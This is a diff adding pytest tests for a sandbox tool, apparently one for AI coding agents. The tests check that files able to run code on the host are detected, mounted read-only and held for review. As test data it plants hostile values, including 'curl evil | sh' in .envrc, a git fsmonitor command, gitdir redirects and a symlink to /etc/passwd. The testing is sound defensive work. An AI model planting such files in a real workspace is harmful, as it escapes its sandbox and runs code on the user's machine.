@@ -1,0 +1,218 @@
+"""Protected workspace files: fingerprints and what changed, the read-only mounts they get, and the watch that
+records a run's changes for review, killed runs included."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from claude_bottle import trust
+from claude_bottle import workspace as ws
+from claude_bottle.errors import ConfigError
+from claude_bottle.runtime.bottle import Protection, protective_mounts
+
+
+@pytest.fixture
+def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    path = tmp_path / "project"
+    (path / ".git" / "hooks").mkdir(parents=True)
+    (path / ".git" / "config").write_text("[core]\n")
+    (path / "src").mkdir()
+    (path / "src" / "main.py").write_text("print('hi')\n")
+    return path
+
+
+def changed(before: dict[str, str], after: dict[str, str]) -> list[str]:
+    return [c.path for c in ws.changes(before, after)]
+
+
+def test_untouched_workspace_has_no_changes_and_ordinary_files_are_not_watched(project: Path) -> None:
+    before = ws.fingerprint(project)
+    (project / "src" / "main.py").write_text("print('changed')\n")
+    (project / "notes.txt").write_text("x")
+    assert ws.changes(before, ws.fingerprint(project)) == []
+
+
+@pytest.mark.parametrize("plant", [
+    lambda p: (p / ".envrc").write_text("curl evil | sh\n"),
+    lambda p: ((p / ".vscode").mkdir(), (p / ".vscode/tasks.json").write_text("{}")),
+    lambda p: ((p / ".claude").mkdir(), (p / ".claude/settings.json").write_text('{"hooks": {}}')),
+    lambda p: (p / ".claude/commands").mkdir(parents=True),
+    lambda p: (p / ".git/hooks/post-checkout").write_text("#!/bin/sh\n"),
+    lambda p: (p / ".git/commondir").write_text("/tmp/evil\n"),
+    lambda p: (p / ".git/config").write_text("[core]\n\tfsmonitor = touch /tmp/owned\n"),
+    lambda p: ((p / "src/vendor/.git").mkdir(parents=True)),
+    lambda p: (p / "src/.git").write_text("gitdir: /tmp/evil\n"),
+    lambda p: (p / ".mcp.json").symlink_to("/etc/passwd"),
+])
+def test_each_planted_file_is_a_change(project: Path, plant: object) -> None:
+    before = ws.fingerprint(project)
+    plant(project)  # type: ignore[operator]
+    assert ws.changes(before, ws.fingerprint(project)), "the plant went unnoticed"
+
+
+def test_a_changed_file_a_mode_and_a_replaced_repository_are_changes(project: Path) -> None:
+    (project / ".envrc").write_text("export A=1\n")
+    before = ws.fingerprint(project)
+    (project / ".envrc").write_text("export A=2\n")
+    assert changed(before, ws.fingerprint(project)) == [".envrc"]
+    before = ws.fingerprint(project)
+    (project / ".envrc").chmod(0o755)
+    assert changed(before, ws.fingerprint(project)) == [".envrc"]
+    before = ws.fingerprint(project)
+    os.rename(project / ".git", project / "old-git")
+    (project / ".git").mkdir()
+    assert ".git" in changed(before, ws.fingerprint(project))
+
+
+def test_a_symlinked_parent_is_a_change_and_is_never_followed(project: Path, tmp_path: Path) -> None:
+    elsewhere = tmp_path / "elsewhere"
+    (elsewhere / "commands").mkdir(parents=True)
+    (elsewhere / "settings.json").write_text("{}")
+    before = ws.fingerprint(project)
+    (project / ".claude").symlink_to(elsewhere)
+    after = ws.fingerprint(project)
+    assert changed(before, after) == [".claude"] and after[".claude"] == f"symlink to {str(elsewhere)!r}"
+    assert ws.lstat_inside(project, ".claude/settings.json") is not None
+    assert ws.lstat_inside(project, ".claude/settings.json")[0] == ".claude"  # type: ignore[index]
+
+
+def test_a_repository_signs_only_what_runs_code(project: Path) -> None:
+    before = ws.fingerprint(project)
+    (project / ".git" / "index").write_bytes(b"DIRC")
+    (project / ".git" / "objects").mkdir()
+    assert ws.changes(before, ws.fingerprint(project)) == [], "commits on the host are not a bottle's plant"
+
+
+def test_nested_git_walk_is_bounded_and_a_full_walk_turning_partial_is_a_change(project: Path) -> None:
+    (project / "a" / "b" / ".git").mkdir(parents=True)
+    assert ws.nested_git(project) == (["a/b/.git"], True)
+    assert ws.nested_git(project, limit=3)[1] is False
+    before = ws.fingerprint(project)
+    for i in range(30):
+        (project / f"pad{i}").mkdir()
+    original = ws.WALK_LIMIT
+    try:
+        ws.WALK_LIMIT = 20
+        after = ws.fingerprint(project)
+    finally:
+        ws.WALK_LIMIT = original
+    assert ws.WALK_KEY in changed(before, after)
+
+
+def test_symlinked_directories_are_not_walked(project: Path, tmp_path: Path) -> None:
+    (tmp_path / "outside" / ".git").mkdir(parents=True)
+    (project / "link").symlink_to(tmp_path / "outside")
+    assert ws.nested_git(project) == ([], True)
+
+
+def test_printable_escapes_control_characters() -> None:
+    assert ws.printable("a\x1b[2Jb\n\tc\x07") == "a\\x1b[2Jb\n\tc\\x07"
+
+
+# ---- mounts ------------------------------------------------------------------------------------------------
+
+def test_existing_directories_and_files_are_mounted_read_only_symlinks_never(project: Path, tmp_path: Path) -> None:
+    (project / ".vscode").mkdir()
+    (project / ".envrc").write_text("")
+    (project / ".mcp.json").symlink_to(tmp_path)
+    (project / ".claude").symlink_to(tmp_path)  # a symlinked parent: .claude/settings.json is not the host's
+    (tmp_path / "settings.json").write_text("{}")
+    paths, _ = ws.protected_paths(project)
+    mounts = {p.target: p.source for p in protective_mounts(project, paths)}
+    assert mounts == {"/workspace/.git": project / ".git", "/workspace/.vscode": project / ".vscode",
+                      "/workspace/.envrc": project / ".envrc"}
+    assert all(m.mount()["ReadOnly"] for m in protective_mounts(project, paths))
+
+
+def test_a_missing_git_gets_an_empty_read_only_file_system(project: Path) -> None:
+    subprocess.run(["rm", "-rf", str(project / ".git")], check=True)
+    (protection,) = protective_mounts(project, ws.PROTECTED)
+    assert protection == Protection("/workspace/.git", None)
+    mount = protection.mount()
+    assert mount["Type"] == "tmpfs" and mount["ReadOnly"] is True
+
+
+def test_a_gitfile_is_mounted_and_nested_repositories_too(project: Path) -> None:
+    subprocess.run(["rm", "-rf", str(project / ".git")], check=True)
+    (project / ".git").write_text("gitdir: /somewhere/.git/worktrees/x\n")
+    (project / "vendor" / "lib" / ".git").mkdir(parents=True)
+    paths, _ = ws.protected_paths(project)
+    assert {p.target for p in protective_mounts(project, paths)} == {"/workspace/.git", "/workspace/vendor/lib/.git"}
+
+
+@pytest.mark.parametrize("make", ["symlink", "fifo"])
+def test_a_git_that_is_neither_a_directory_nor_a_file_is_refused(project: Path, tmp_path: Path, make: str) -> None:
+    subprocess.run(["rm", "-rf", str(project / ".git")], check=True)
+    if make == "symlink":
+        (project / ".git").symlink_to(tmp_path / "config")
+    else:
+        os.mkfifo(project / ".git")
+    with pytest.raises(ConfigError, match=r"\.git is (a symlink|neither)"):
+        protective_mounts(project, ws.PROTECTED)
+
+
+# ---- the watch ---------------------------------------------------------------------------------------------
+
+def test_a_run_that_changed_nothing_leaves_nothing_to_review(project: Path) -> None:
+    watch = trust.Watch(project, "t-1")
+    watch.begin()
+    assert watch.end(print) == []
+    trust.check(project)
+    assert not list((trust.workspace_state_dir(project) / "runs").iterdir())
+
+
+def test_a_run_s_changes_are_reported_and_block_the_workspace_until_reviewed(project: Path) -> None:
+    reports: list[str] = []
+    watch = trust.Watch(project, "t-2")
+    watch.begin()
+    (project / ".envrc").write_text("curl evil | sh\n")
+    assert [c.path for c in watch.end(reports.append)] == [".envrc"]
+    assert "can run code on your machine" in reports[0] and ".envrc" in reports[0]
+    with pytest.raises(ConfigError, match=rf"(?s)\.envrc: created.*claude-bottle trust {project}"):
+        trust.check(project)
+    trust.clear_review(project, trust.unreviewed(project))
+    trust.check(project)
+
+
+def test_edits_between_runs_are_not_flagged(project: Path) -> None:
+    watch = trust.Watch(project, "t-3")
+    watch.begin()
+    watch.end(print)
+    (project / ".envrc").write_text("the user's own\n")
+    trust.check(project)
+
+
+def test_a_killed_run_is_compared_at_the_next_start(project: Path) -> None:
+    # a run in another process that dies without its after-check: its record is unlocked by its death
+    script = ("import os, sys; from pathlib import Path; from claude_bottle import trust; "
+              "w = trust.Watch(Path(sys.argv[1]), 'killed'); w.begin(); "
+              "(Path(sys.argv[1]) / '.envrc').write_text('planted'); os._exit(9)")
+    subprocess.run([sys.executable, "-c", script, str(project)], check=False, env=dict(os.environ))
+    with pytest.raises(ConfigError, match=r"\.envrc: created"):
+        trust.check(project)
+    with pytest.raises(ConfigError, match=r"\.envrc: created"):
+        trust.check(project)  # it stays pending until reviewed
+
+
+def test_a_run_in_progress_is_left_to_check_itself(project: Path) -> None:
+    watch = trust.Watch(project, "t-4")
+    watch.begin()
+    (project / ".envrc").write_text("planted")
+    trust.check(project)  # another start meanwhile: the run is alive, its record locked
+    assert [c.path for c in watch.end(print)] == [".envrc"]
+
+
+def test_the_empty_git_directory_made_for_the_mount_is_removed(project: Path) -> None:
+    subprocess.run(["rm", "-rf", str(project / ".git")], check=True)
+    watch = trust.Watch(project, "t-5")
+    watch.begin()
+    (project / ".git").mkdir()  # what the engine does on the host for the read-only mount
+    assert watch.end(print) == []
+    assert not (project / ".git").exists()
